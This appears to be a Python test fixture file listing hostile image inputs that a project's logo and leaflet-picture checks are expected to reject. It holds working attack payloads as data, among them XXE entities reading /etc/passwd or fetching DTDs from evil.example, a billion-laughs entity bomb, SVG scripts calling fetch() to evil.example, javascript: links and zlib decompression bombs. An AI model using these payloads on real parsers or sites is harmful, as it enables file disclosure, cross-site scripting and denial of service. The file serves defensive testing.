"""SVG that reaches out, bitmaps that explode or are not what they say."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

from tests.hostile import Bad, changed
from tests.hostile.yamls import FILE
from tests.test_broken import BODY
from tests.test_png import chunk, header, jpeg, png
from tests.test_svg_refused import svg


def logo(text: str) -> Bad:
    """A project with this logo."""
    return Bad({"logo.svg": text})


def figure(name: str, data: bytes) -> Bad:
    """A leaflet that shows this picture."""
    shown = f"      - figure: {{image: {name}, alt: A womb., caption: The womb}}"
    return Bad({**changed(FILE, BODY, shown), f"leaflets/pictures/{name}": data})


def written(mode: str, kind: str, size: tuple[int, int] = (40, 30)) -> bytes:
    """A bitmap as another program writes it."""
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, kind)
    return buffer.getvalue()


def png_of(image: Image.Image) -> bytes:
    """A bitmap as PNG."""
    buffer = io.BytesIO()
    image.save(buffer, "PNG")
    return buffer.getvalue()


def jpeg_of(image: Image.Image) -> bytes:
    """A bitmap as JPEG."""
    buffer = io.BytesIO()
    image.save(buffer, "JPEG")
    return buffer.getvalue()


GOOD = written("RGB", "PNG")
HEAD, TAIL = GOOD[:33], GOOD[33:]
BOMB = zlib.compress(bytes(70_000_000))
XLINK = 'xmlns:x="http://www.w3.org/1999/xlink"'
LAUGHS = '<!DOCTYPE svg [<!ENTITY a "ha">' + "".join(f'<!ENTITY a{n} "&a{n - 1};&a{n - 1};">' for n in range(1, 30))

CASES: dict[str, Bad] = {
    "a drawing of entities": logo(LAUGHS + "]>" + svg("<g fill='&a29;'/>")),
    "an entity of a file": logo('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + svg("<g/>")),
    "an entity of the network": logo('<!DOCTYPE svg SYSTEM "http://evil.example/a.dtd">' + svg("<g/>")),
    "a parameter entity": logo('<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/a">%x;]>' + svg("<g/>")),
    "a script": logo(svg("<script>fetch('http://evil.example')</script>")),
    "a script in an attribute": logo(svg('<rect width="1" height="1" onload="alert(1)"/>')),
    "a link that runs": logo(svg('<a href="javascript:alert(1)"><rect width="1" height="1"/></a>')),
    "a picture of the network": logo(svg('<image href="http://evil.example/a.png"/>')),
    "a picture of the disk": logo(svg(f'<image {XLINK} x:href="file:///etc/passwd"/>')),
    "a shape of another file": logo(svg(f'<use {XLINK} x:href="other.svg#a"/>')),
    "shapes that repeat each other": logo(svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')),
    "a style sheet of the network": logo(svg("<style>@import url(http://evil.example/a.css);</style>")),
    "a style sheet of XML": logo('<?xml-stylesheet href="http://evil.example/a.css"?>' + svg("<g/>")),
    "a fill of the network": logo(svg('<rect width="1" height="1" fill="url(http://evil.example/a)"/>')),
    "a web page in a drawing": logo(svg("<foreignObject><iframe src='http://evil.example'/></foreignObject>")),
    "places beyond the world": logo(svg('<path d="M0 0 L1e300 1e300"/>')),
    "places that are no numbers": logo(svg('<path d="M0 0 L nan inf"/>')),
    "a box beyond the world": logo(svg("<g/>", 'viewBox="0 0 1e9 1e9"')),
    "a box of nothing": logo(svg("<g/>", 'viewBox="0 0 0 0"')),
    "transforms that grow": logo(svg('<g transform="' + "scale(1e3)" * 40 + '"><rect width="9" height="9"/></g>')),
    "groups without end": logo(svg("<g>" * 10_000 + "</g>" * 10_000)),
    "lines without end": logo(svg(f'<path d="M0 0{"h1" * 100_000}"/>')),
    "dashes without end": logo(svg(f'<path d="M0 0h9" stroke-dasharray="{"1 " * 10_000}"/>')),
    "mistakes without end": logo(svg("<text/>\n" * 10_000)),
    "a drawing of two megabytes": logo(svg(" " * 2_000_000)),
    "a drawing that breaks off": logo(svg("<g>")[:60]),
    "a drawing of NULs": logo("\0" * 100),
    "a drawing in UTF-16": Bad({"logo.svg": svg("<g/>").encode("utf-16")}),
    "a drawing that says it is UTF-16": logo('<?xml version="1.0" encoding="UTF-16"?>' + svg("<text/>")),
    "a bitmap by the name of a drawing": Bad({"logo.svg": GOOD}),
    "a drawing by the name of a bitmap": figure("a.png", svg("<g/>").encode()),
    "a JPEG by the name of a PNG": figure("a.png", written("RGB", "JPEG")),
    "a PNG by the name of a JPEG": figure("a.jpg", GOOD),
    "a GIF": figure("a.png", written("L", "GIF")),
    "a TIFF": figure("a.jpg", written("L", "TIFF")),
    "a WebP": figure("a.png", b"RIFF\x24\0\0\0WEBPVP8 "),
    "a picture of a phone": figure("a.jpg", b"\0\0\0\x18ftypheic\0\0"),
    "an archive": figure("a.png", b"PK\3\4\x14"),
    "a program": figure("a.png", b"\x7fELF\2\1\1"),
    "a web page for a picture": figure("a.png", b"<!DOCTYPE html><title>Not found</title>"),
    "a picture of nothing": figure("a.png", b""),
    "a PNG of a thousand million dots": figure("a.png", png(header(2**31, 2**31))),
    "a PNG of 26 million dots": figure("a.png", png(header(5_200, 5_000))),
    "a JPEG of 4,000 million dots": figure("a.jpg", written("L", "JPEG")[:160] + jpeg()[2:]),
    "a PNG cut short": figure("a.png", GOOD[:-20]),
    "a PNG sent as text": figure("a.png", GOOD.replace(b"\r\n", b"\n")),
    "a PNG with a wrong sum": figure("a.png", GOOD.replace(b"IDAT", b"IDAU")),
    "a PNG without pixels": figure("a.png", HEAD + chunk(b"IEND")),
    "a PNG with too few pixels": figure("a.png", HEAD + chunk(b"IDAT", zlib.compress(bytes(9))) + chunk(b"IEND")),
    "a PNG whose pixels are none": figure("a.png", png()),
    "a PNG whose words explode": figure("a.png", HEAD + chunk(b"zTXt", b"a\0\0" + BOMB) + TAIL),
    "a PNG whose profile explodes": figure("a.png", HEAD + chunk(b"iCCP", b"a\0\0" + BOMB) + TAIL),
    "a PNG with half a transparency": figure("a.png", HEAD + chunk(b"tRNS", b"") + TAIL),
    "a PNG that moves, broken": figure("a.png", HEAD + chunk(b"acTL", bytes(8)) + chunk(b"fcTL", bytes(5)) + TAIL),
    "a PNG of no known colours": figure("a.png", png(header(colour_type=5))),
    "a PNG that skips its header": figure("a.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IDAT", b"x") + chunk(b"IEND")),
    "a PNG that says it is longer": figure("a.png", HEAD + struct.pack(">I", 2**31 - 1) + b"IDAT"),
    "a JPEG cut short": figure("a.jpg", written("RGB", "JPEG")[:-2]),
    "a JPEG without a frame": figure("a.jpg", b"\xff\xd8\xff\xda\0\2x\xff\xd9"),
    "a JPEG whose scan is none": figure("a.jpg", jpeg()),
}
